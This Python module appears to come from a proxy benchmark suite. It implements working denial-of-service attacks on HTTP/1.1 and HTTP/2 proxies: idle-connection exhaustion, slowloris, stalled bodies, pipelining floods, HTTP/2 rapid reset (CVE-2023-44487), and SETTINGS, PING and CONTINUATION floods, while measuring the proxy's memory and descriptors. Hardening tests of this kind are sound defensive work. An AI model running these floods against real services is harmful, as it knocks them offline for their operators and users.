"""The attacks of ``bench/hostile.py`` (no ``main``: not a benchmark).

Each attack is a coroutine ``attack(ctx) -> dict`` against one proxy. It is bounded by
a deadline, closes every socket it opened before it returns (with an RST where it held
many, so no TIME_WAIT piles up between attacks), and says how each of its connections
ended (``Ending``: ``408``, ``GOAWAY(CODE)``, ``close``, ``reset``, or ``open``: never
cut). Its figures are the ones only it can see (bytes it managed to send, connections
accepted, what the proxy held while it held them); CPU, RSS before and after and the
legitimate client's latency are measured around it by ``bench/hostile.py``.
"""

from __future__ import annotations

import argparse
import asyncio
import os
import socket
import struct
import subprocess
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from typing import Any

from bench.hostile_peers import (
    ACK,
    CANCEL,
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    FRAME_NAMES,
    GET_BLOCK,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    SETTINGS_HEADER_TABLE_SIZE,
    Ending,
    FrameReader,
    frame,
    goaway_of,
    reply_kind,
)

PAGE_KIB = os.sysconf("SC_PAGE_SIZE") // 1024
RST_ON_CLOSE = struct.pack("ii", 1, 0)  # SO_LINGER on, 0 s

# --------------------------------------------------------------------------- the proxy, seen


class Probe:
    """What the proxy under attack holds right now: RSS, descriptors, upstream connections."""

    def __init__(self, pid: int, upstream_port: int) -> None:
        self.pid = pid
        self.upstream_port = upstream_port

    def rss_kib(self) -> int:
        with open(f"/proc/{self.pid}/statm") as f:
            return int(f.read().split()[1]) * PAGE_KIB

    def fds(self) -> int:
        return len(os.listdir(f"/proc/{self.pid}/fd"))

    def upstream_connections(self) -> int:
        """Established connections of this process to the upstream's port (``ss -p``)."""
        out = subprocess.run(
            ["ss", "-Htnp", "state", "established", f"( dport = :{self.upstream_port} )"],
            capture_output=True,
            text=True,
            timeout=30,
        ).stdout
        return sum(f"pid={self.pid}," in line for line in out.splitlines())

    def snapshot(self) -> dict[str, Any]:
        return {
            "rss_mib": round(self.rss_kib() / 1024, 1),
            "fds": self.fds(),
            "upstream_connections": self.upstream_connections(),
        }


@dataclass
class Ctx:
    """What an attack is given: the proxy's address, a probe on it, what it held before
    the attack, and the bench's options."""

    address: tuple[str, int]
    probe: Probe
    before: dict[str, Any]
    args: argparse.Namespace


def _rst_close(sock: socket.socket) -> None:
    try:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RST_ON_CLOSE)
    except OSError:
        pass
    sock.close()


async def _connect_all(
    address: tuple[str, int], count: int, inflight: int
) -> tuple[list[socket.socket], Counter[str]]:
    """``count`` connected non-blocking sockets (at most ``inflight`` handshakes at once)."""
    loop = asyncio.get_running_loop()
    gate = asyncio.Semaphore(inflight)
    socks: list[socket.socket] = []
    failed: Counter[str] = Counter()

    async def one() -> None:
        s = socket.socket()
        s.setblocking(False)
        async with gate:
            try:
                await asyncio.wait_for(loop.sock_connect(s, address), 30)
            except (OSError, TimeoutError) as exc:
                failed[type(exc).__name__] += 1
                s.close()
                return
        socks.append(s)

    await asyncio.gather(*(one() for _ in range(count)))
    return socks, failed


def _state_of(sock: socket.socket) -> Ending:
    """Has the proxy ended this (idle, non-blocking) connection? Read what is there."""
    try:
        data = sock.recv(65536)
    except BlockingIOError:
        return Ending("open")
    except ConnectionResetError:
        return Ending("reset")
    return Ending(reply_kind(data))


async def _read_until(
    reader: asyncio.StreamReader, until: float, reply: bytearray
) -> tuple[bool, bool]:
    """Read into ``reply`` until EOF or ``until``; (ended, by a reset)."""
    while (left := until - time.monotonic()) > 0:
        try:
            chunk = await asyncio.wait_for(reader.read(65536), left)
        except TimeoutError:
            return False, False
        except ConnectionError:
            return True, True
        if not chunk:
            return True, False
        reply += chunk
    return False, False


# --------------------------------------------------------------------------- HTTP/1.1 attacks


async def idle_connections(ctx: Ctx) -> dict[str, Any]:
    """``--idle`` connections that never send a byte: how fast they are accepted, what
    they cost the proxy while held ``--hold`` seconds, and whether it connects upstream."""
    args = ctx.args
    started = time.monotonic()
    socks, failed = await _connect_all(ctx.address, args.idle, args.inflight)
    connected_s = time.monotonic() - started
    # Accepted once the proxy holds a descriptor for each (the kernel finishes handshakes
    # on its own, up to the accept queue).
    # Waiting stops when no more come for 2 s: a proxy at its maxconn leaves the rest in
    # the accept queue.
    target = ctx.before["fds"] + len(socks)
    fds, progress = ctx.probe.fds(), time.monotonic()
    while fds < target and time.monotonic() - started < args.idle_deadline:
        await asyncio.sleep(0.05)
        if (now := ctx.probe.fds()) > fds:
            fds, progress = now, time.monotonic()
        elif time.monotonic() - progress > 2:
            break
    accepted_s = progress - started
    accepted = min(fds - ctx.before["fds"], len(socks))
    # What they cost, once the proxy has settled on them (and before haproxy's
    # `timeout http-request`, which also counts the wait for a first request, cuts them).
    await asyncio.sleep(min(0.5, args.hold))
    held = ctx.probe.snapshot()
    await asyncio.sleep(max(0.0, args.hold - 0.5))
    endings = [_state_of(s) for s in socks]
    for s in socks:
        _rst_close(s)
    rss_per_conn = (held["rss_mib"] - ctx.before["rss_mib"]) * 1024 / max(len(socks), 1)
    # Fewer than before is haproxy closing its pooled idle server connection at maxconn.
    upstream_opened = max(0, held["upstream_connections"] - ctx.before["upstream_connections"])
    return {
        "endings": endings,
        "connected": len(socks),
        "connect_failures": dict(failed),
        "connect_s": round(connected_s, 2),
        "accepted": accepted,
        "accept_s": round(accepted_s, 2),
        "held": held,
        "rss_per_connection_kib": round(rss_per_conn, 2),
        "upstream_opened": upstream_opened,
        "notes": (
            f"{accepted:,} accepted in {accepted_s:.1f} s; held: {held['rss_mib']:.0f} MiB, "
            f"{rss_per_conn:.1f} KiB/conn, {held['fds'] - ctx.before['fds']:,} fds, "
            f"{upstream_opened} upstream"
        ),
    }


def _padded_head(length: int) -> bytes:
    """A request head that is not complete before ``length`` bytes."""
    head = b"GET / HTTP/1.1\r\nHost: bench\r\nUser-Agent: slowloris\r\nX-Pad: "
    return head + b"a" * max(0, length - len(head))


async def _slow_client(
    address: tuple[str, int], pieces: list[bytes], every: float, until: float
) -> Ending:
    """Send ``pieces`` one every ``every`` seconds, then wait; how and when it was cut."""
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(*address), 10)
    except (OSError, TimeoutError) as exc:
        return Ending(f"connect {type(exc).__name__}")
    first = time.monotonic()
    reply = bytearray()
    ended, reset = False, False
    try:
        for i, piece in enumerate(pieces):
            writer.write(piece)
            last = i == len(pieces) - 1
            ended, reset = await _read_until(
                reader, until if last else min(until, time.monotonic() + every), reply
            )
            if ended or time.monotonic() >= until:
                break
    finally:
        writer.transport.abort()
    if not ended:
        return Ending("open")
    return Ending(reply_kind(bytes(reply), reset=reset), time.monotonic() - first)


async def _slow_clients(ctx: Ctx, count: int, pieces: list[bytes], window: float) -> list[Ending]:
    until = time.monotonic() + window
    every = ctx.args.trickle_every
    return list(
        await asyncio.gather(
            *(_slow_client(ctx.address, pieces, every, until) for _ in range(count))
        )
    )


async def slowloris_trickle(ctx: Ctx) -> dict[str, Any]:
    """``--slowloris`` clients that send one byte of a head every ``--trickle-every`` s."""
    args = ctx.args
    window = args.header_timeout + args.grace
    head = _padded_head(int(window / args.trickle_every) + 64)
    endings = await _slow_clients(
        ctx, args.slowloris, [head[i : i + 1] for i in range(len(head))], window
    )
    return {"endings": endings, "notes": f"a byte every {args.trickle_every:g} s"}


async def slowloris_silent(ctx: Ctx) -> dict[str, Any]:
    """``--slowloris`` clients that send part of a head, then nothing."""
    args = ctx.args
    partial = b"GET / HTTP/1.1\r\nHost: bench\r\nUser-Agent: slowloris\r\n"
    endings = await _slow_clients(ctx, args.slowloris, [partial], args.header_timeout + args.grace)
    return {"endings": endings, "notes": f"{len(partial)} bytes of a head, then nothing"}


async def stalled_body(ctx: Ctx) -> dict[str, Any]:
    """``--stalled`` clients that send a head announcing 1,000 bytes of body, 10 of them,
    then nothing. The upstream answers only a complete request."""
    args = ctx.args
    request = b"GET /upload HTTP/1.1\r\nHost: bench\r\nContent-Length: 1000\r\n\r\n0123456789"
    window = args.body_timeout + args.grace
    clients = asyncio.ensure_future(_slow_clients(ctx, args.stalled, [request], window))
    await asyncio.sleep(min(2.0, window / 2))
    during = ctx.probe.snapshot()
    endings = await clients
    held = during["upstream_connections"] - ctx.before["upstream_connections"]
    return {
        "endings": endings,
        "during": during,
        "notes": f"{held} upstream connections held while stalled",
    }


async def _writable(sock: socket.socket, timeout: float) -> None:
    loop = asyncio.get_running_loop()
    ready: asyncio.Future[None] = loop.create_future()

    def on_writable() -> None:
        # The writer stays registered until the awaiting task runs again: it may
        # fire more than once before then.
        if not ready.done():
            ready.set_result(None)

    loop.add_writer(sock, on_writable)
    try:
        await asyncio.wait_for(ready, timeout)
    except TimeoutError:
        pass
    finally:
        loop.remove_writer(sock)


async def _pipeline(ctx: Ctx, path: str) -> dict[str, Any]:
    """``--pipeliners`` clients pipelining ``GET path`` as fast as the proxy takes them for
    ``--flood-seconds``, never reading a byte."""
    args = ctx.args
    request = f"GET {path} HTTP/1.1\r\nHost: bench\r\n\r\n".encode()
    batch = request * (65536 // len(request))
    socks, failed = await _connect_all(ctx.address, args.pipeliners, args.pipeliners)
    started = time.monotonic()
    until = started + args.flood_seconds

    async def flood(sock: socket.socket) -> tuple[int, Ending]:
        sent, offset = 0, 0
        while (left := until - time.monotonic()) > 0:
            try:
                n = sock.send(batch[offset:])
            except BlockingIOError:
                await _writable(sock, left)
                continue
            except OSError as exc:
                how = "reset" if isinstance(exc, ConnectionResetError) else "close"
                return sent, Ending(how, time.monotonic() - started)
            sent += n
            offset = (offset + n) % len(batch)
            await asyncio.sleep(0)
        return sent, Ending("open")

    results = await asyncio.gather(*(flood(s) for s in socks))
    for s in socks:
        _rst_close(s)
    sent = sum(r[0] for r in results)
    return {
        "endings": [r[1] for r in results] + [Ending(f"connect {k}") for k in failed.elements()],
        "bytes_sent": sent,
        "requests_sent": sent // len(request),
        "notes": f"{sent / 2**20:.1f} MiB ({sent // len(request):,} requests) taken in "
        f"{args.flood_seconds:g} s",
    }


async def pipeline_unread(ctx: Ctx) -> dict[str, Any]:
    return await _pipeline(ctx, "/")


async def pipeline_silent(ctx: Ctx) -> dict[str, Any]:
    return await _pipeline(ctx, "/silent")


async def connect_close(ctx: Ctx) -> dict[str, Any]:
    """``--scan`` connect-and-close clients (a port scan, a TCP health check)."""
    args = ctx.args
    loop = asyncio.get_running_loop()
    gate = asyncio.Semaphore(args.inflight)
    failed: Counter[str] = Counter()

    async def one() -> None:
        s = socket.socket()
        s.setblocking(False)
        async with gate:
            try:
                await asyncio.wait_for(loop.sock_connect(s, ctx.address), 10)
            except (OSError, TimeoutError) as exc:
                failed[type(exc).__name__] += 1
            finally:
                s.close()

    started = time.monotonic()
    await asyncio.gather(*(one() for _ in range(args.scan)))
    took = time.monotonic() - started
    return {
        "endings": [],
        "connect_failures": dict(failed),
        "scan_s": round(took, 2),
        "notes": f"{args.scan:,} in {took:.1f} s, {sum(failed.values())} failed",
    }


# --------------------------------------------------------------------------- HTTP/2 attacks


class H2Attacker:
    """One HTTP/2 connection spoken in raw frames; a reader task acknowledges the proxy's
    SETTINGS and notes its GOAWAY or close."""

    def __init__(self, address: tuple[str, int]) -> None:
        self.address = address
        self.frames_in: Counter[str] = Counter()
        self.ending: Ending | None = None
        self.bytes_written = 0
        self.write_failed: float | None = None
        self._frames = FrameReader()

    async def open(self) -> None:
        self.reader, self.writer = await asyncio.wait_for(
            asyncio.open_connection(*self.address), 10
        )
        self.writer.write(PREFACE + frame(SETTINGS, 0, 0))
        self.started = time.monotonic()
        # The proxy's SETTINGS come first; acknowledge them.
        until = self.started + 5
        while not self.frames_in["SETTINGS"] and self.ending is None:
            await self._read_once(until)
            if time.monotonic() > until:
                break
        self._task: asyncio.Future[None] | None = asyncio.ensure_future(self._read_loop())

    def _took(self) -> float:
        return time.monotonic() - self.started

    def _on_frames(self, data: bytes) -> None:
        for kind, flags, _, payload in self._frames.feed(data):
            self.frames_in[FRAME_NAMES.get(kind, f"type {kind}")] += 1
            if kind == SETTINGS and not flags & ACK:
                self.writer.write(frame(SETTINGS, ACK, 0))
            elif kind == GOAWAY and self.ending is None:
                self.ending = Ending(goaway_of(payload), self._took())

    async def _read_once(self, until: float | None, *, quiet_ends: bool = False) -> bool:
        """Read once (bounded by ``until``, if given); False once the connection ended (or,
        with ``quiet_ends``, nothing came)."""
        try:
            if until is None:
                data = await self.reader.read(65536)
            else:
                timeout = max(0.0, until - time.monotonic())
                data = await asyncio.wait_for(self.reader.read(65536), timeout)
        except TimeoutError:
            return not quiet_ends
        except ConnectionError:
            if self.ending is None:
                self.ending = Ending("reset", self._took())
            return False
        if not data:
            if self.ending is None:
                self.ending = Ending("close", self._took())
            return False
        self._on_frames(data)
        return True

    async def _read_loop(self) -> None:
        # No wait_for here: Python 3.11's can swallow the cancellation that ends this task
        # when a read completes at the same moment, and the task would read on.
        while await self._read_once(None):
            pass

    async def send(self, data: bytes, until: float) -> bool:
        """Write ``data`` and wait until the proxy takes it; False once it is over."""
        if self.ending is not None or self.write_failed is not None:
            return False
        self.writer.write(data)
        try:
            await asyncio.wait_for(self.writer.drain(), max(0.0, until - time.monotonic()))
        except TimeoutError:
            return False  # the proxy stopped reading us
        except ConnectionError:
            # The proxy is gone; its GOAWAY, if it sent one, is still to be read.
            self.write_failed = self._took()
            return False
        self.bytes_written += len(data)
        return self.ending is None and time.monotonic() < until

    async def finish(self) -> Ending:
        """Read what the proxy still sends (until 0.5 s of quiet, at most 2 s), then close
        with an RST; how the proxy ended the connection, or ``open``."""
        if self._task is not None:
            self._task.cancel()
            await asyncio.gather(self._task, return_exceptions=True)
        until = time.monotonic() + 2
        while self.ending is None and time.monotonic() < until:
            if not await self._read_once(min(until, time.monotonic() + 0.5), quiet_ends=True):
                break
        self.writer.transport.abort()
        if self.ending is None and self.write_failed is not None:
            self.ending = Ending("reset", self.write_failed)
        return self.ending or Ending("open")


async def _h2_flood(ctx: Ctx, make_batch: Callable[[int], tuple[bytes, int]]) -> dict[str, Any]:
    """Send batches until the proxy cuts the connection, stops reading, or time is up."""
    attacker = H2Attacker(ctx.address)
    await attacker.open()
    until = time.monotonic() + ctx.args.flood_seconds
    units, i = 0, 0
    while time.monotonic() < until:
        batch, n = make_batch(i)
        i += 1
        if not await attacker.send(batch, until):
            break
        units += n
    ending = await attacker.finish()
    return {
        "endings": [ending],
        "units_sent": units,
        "bytes_sent": attacker.bytes_written,
        "frames_received": dict(attacker.frames_in),
    }


async def rapid_reset(ctx: Ctx) -> dict[str, Any]:
    """HEADERS then RST_STREAM(CANCEL), stream after stream (CVE-2023-44487)."""
    per_batch = 100
    cancel = CANCEL.to_bytes(4, "big")

    def batch(i: int) -> tuple[bytes, int]:
        first = 1 + 2 * per_batch * i
        frames = (
            frame(HEADERS, END_STREAM | END_HEADERS, s, GET_BLOCK) + frame(RST_STREAM, 0, s, cancel)
            for s in range(first, first + 2 * per_batch, 2)
        )
        return b"".join(frames), per_batch

    result = await _h2_flood(ctx, batch)
    result["notes"] = f"{result['units_sent']:,} streams opened and reset"
    return result


def _peek_goaway(sock: socket.socket) -> tuple[str | None, bool]:
    """Look at what the proxy sent without taking it off the socket (the proxy still sees
    a client that reads nothing): (its GOAWAY, if there is one yet; whether it is gone)."""
    try:
        data = sock.recv(1 << 20, socket.MSG_PEEK | socket.MSG_DONTWAIT)
    except BlockingIOError:
        return None, False
    except OSError:
        return None, True
    goaway = next((p for k, _, _, p in FrameReader().feed(data) if k == GOAWAY), None)
    return (None if goaway is None else goaway_of(goaway)), not data


async def settings_flood(ctx: Ctx) -> dict[str, Any]:
    """SETTINGS frames, each to be acknowledged, from a client that never reads: a raw
    socket that takes nothing off after the handshake, and peeks every 50 ms for a GOAWAY.

    (Not H2Attacker: asyncio's transport would read for us, and its StreamReader raises a
    reset before handing over a GOAWAY it already holds.)"""
    loop = asyncio.get_running_loop()
    sock = socket.socket()
    sock.setblocking(False)
    await asyncio.wait_for(loop.sock_connect(sock, ctx.address), 10)
    await loop.sock_sendall(sock, PREFACE + frame(SETTINGS, 0, 0))
    started = time.monotonic()
    frames = FrameReader()
    handshake = started + 5
    while time.monotonic() < handshake:  # the proxy's SETTINGS, then not another byte
        data = await asyncio.wait_for(loop.sock_recv(sock, 65536), handshake - time.monotonic())
        if not data or any(k == SETTINGS and not f & ACK for k, f, _, _ in frames.feed(data)):
            break
    await loop.sock_sendall(sock, frame(SETTINGS, ACK, 0))
    one = frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_HEADER_TABLE_SIZE, 4096))
    batch = one * 1000
    until = time.monotonic() + ctx.args.flood_seconds
    ending: Ending | None = None
    sent, offset, write_failed, next_peek = 0, 0, None, 0.0
    while (left := until - time.monotonic()) > 0 and ending is None:
        if time.monotonic() >= next_peek:
            goaway, gone = _peek_goaway(sock)
            if goaway or gone:
                ending = Ending(goaway or "close", time.monotonic() - started)
                break
            next_peek = time.monotonic() + 0.05
        try:
            n = sock.send(batch[offset:])
        except BlockingIOError:
            await _writable(sock, min(0.05, left))  # the proxy stopped reading us
            continue
        except OSError:
            write_failed = time.monotonic() - started
            break
        sent += n
        offset = (offset + n) % len(batch)
        await asyncio.sleep(0)
    if ending is None:
        goaway, gone = _peek_goaway(sock)  # a GOAWAY queued before a reset is still there
        if goaway or gone or write_failed is not None:
            how = goaway or ("reset" if write_failed is not None else "close")
            ending = Ending(how, write_failed or time.monotonic() - started)
    _rst_close(sock)
    units = sent // len(one)
    return {
        "endings": [ending or Ending("open")],
        "units_sent": units,
        "bytes_sent": sent,
        "notes": f"{units:,} SETTINGS taken, none of the ACKs read",
    }


async def ping_flood(ctx: Ctx) -> dict[str, Any]:
    """PING frames as fast as the proxy takes them (the client reads the ACKs)."""
    one = frame(PING, 0, 0, b"hostile!")
    result = await _h2_flood(ctx, lambda i: (one * 1000, 1000))
    acks = result["frames_received"].get("PING", 0)
    result["notes"] = f"{result['units_sent']:,} PINGs taken, {acks:,} ACKs"
    return result


def _hpack_int(value: int, prefix_bits: int) -> bytes:
    top = (1 << prefix_bits) - 1
    if value < top:
        return bytes((value,))
    out, value = [top], value - top
    while value >= 128:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes((*out, value))


async def continuation_flood(ctx: Ctx) -> dict[str, Any]:
    """HEADERS without END_HEADERS, then CONTINUATION frames of ``--continuation-bytes``
    each, forever: one header value of 1 GiB that never ends."""
    size = ctx.args.continuation_bytes
    start = b"\x00\x07x-flood" + _hpack_int(1 << 30, 7)  # literal, new name, never indexed
    filler = frame(CONTINUATION, 0, 1, b"a" * size)

    def batch(i: int) -> tuple[bytes, int]:
        frames = filler * max(1, 65536 // (size + 9))
        if i == 0:
            return frame(HEADERS, END_STREAM, 1, GET_BLOCK + start) + frames, 0
        return frames, max(1, 65536 // (size + 9))

    result = await _h2_flood(ctx, batch)
    result["notes"] = (
        f"{result['units_sent']:,} CONTINUATION frames of {size:,} bytes "
        f"({result['bytes_sent'] / 2**20:.1f} MiB) taken"
    )
    return result


# --------------------------------------------------------------------------- the registry


def _clients(n: int) -> str:
    return f"{n} client" if n == 1 else f"{n} clients"


@dataclass(frozen=True)
class Attack:
    name: str
    group: str  # which upstream and proxies it runs against: http1, raw or h2
    run: Callable[[Ctx], Awaitable[dict[str, Any]]]
    describe: Callable[[argparse.Namespace], str]


ATTACKS = [
    Attack("idle", "http1", idle_connections, lambda a: f"{a.idle:,} idle connections"),
    Attack(
        "slowloris_trickle",
        "http1",
        slowloris_trickle,
        lambda a: f"slowloris: {a.slowloris:,} heads trickled",
    ),
    Attack(
        "slowloris_silent",
        "http1",
        slowloris_silent,
        lambda a: f"slowloris: {a.slowloris:,} partial heads",
    ),
    Attack("stalled_body", "raw", stalled_body, lambda a: f"{a.stalled:,} stalled bodies"),
    Attack(
        "pipeline_unread",
        "http1",
        pipeline_unread,
        lambda a: f"pipelining, {_clients(a.pipeliners)} never reading",
    ),
    Attack(
        "pipeline_silent",
        "raw",
        pipeline_silent,
        lambda a: f"pipelining to a silent upstream, {_clients(a.pipeliners)}",
    ),
    Attack("scan", "http1", connect_close, lambda a: f"{a.scan:,} connect-and-close"),
    Attack("h2_rapid_reset", "h2", rapid_reset, lambda a: "HTTP/2 rapid reset"),
    Attack(
        "h2_settings_flood", "h2", settings_flood, lambda a: "HTTP/2 SETTINGS flood, not reading"
    ),
    Attack("h2_ping_flood", "h2", ping_flood, lambda a: "HTTP/2 PING flood"),
    Attack(
        "h2_continuation_flood", "h2", continuation_flood, lambda a: "HTTP/2 CONTINUATION flood"
    ),
]
